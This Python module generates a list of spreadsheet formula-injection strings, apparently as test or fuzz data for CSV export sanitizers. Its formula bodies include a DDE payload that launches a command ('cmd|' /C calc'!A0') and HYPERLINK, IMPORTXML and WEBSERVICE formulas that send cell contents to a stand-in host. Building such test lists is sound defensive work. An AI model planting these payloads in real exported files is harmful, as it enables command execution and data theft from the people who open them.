"""Texts that want to be formulas when a spreadsheet opens them."""

import itertools

_STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\t", "'=", "''=", "'+", "'-", "'@", '"=', " =",
    "\u00a0=", "\ufeff=", "\uff1d", "\uff0b", "\uff0d", "\uff20", ";=", ",=", '",=', '";=', "|=",
    "\x0b=", "\x00=", "\x1f=", "\u200b=", "\u2028=", "%=", "==", "=-", "+=", "=\t", "=+", "\u2212",
)  # fmt: skip
_BODIES = (
    "1+1", "A1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "@SUM(1)",
    'IMPORTXML(CONCAT("http://x/",A1),"//a")', "WEBSERVICE(\"http://x\")", "DDE(\"a\";\"b\";\"c\")",
    "1E5", "0", "TRUE()", "{1,2}", "\u0421\u0423\u041c\u041c(A1)", "", "x", "1;=2", "1,=2",
    '1"', "1\r\n=2",
)  # fmt: skip
_ENDS = (
    "",
    " ",
    "\t",
    "'",
    '"',
    ",=1",
    ";=1",
    "\n=1",
    "\r\n=1",
    "\t=1",
    '",=1',
    "0",
    "~",
    "\u00e9",
    "#",
)

_ALL = {"".join(parts) for parts in itertools.product(_STARTS, _BODIES, _ENDS)}
# By their ends, so that every start is among them.
HOSTILE = sorted(_ALL, key=lambda text: text[::-1])[:10_000]
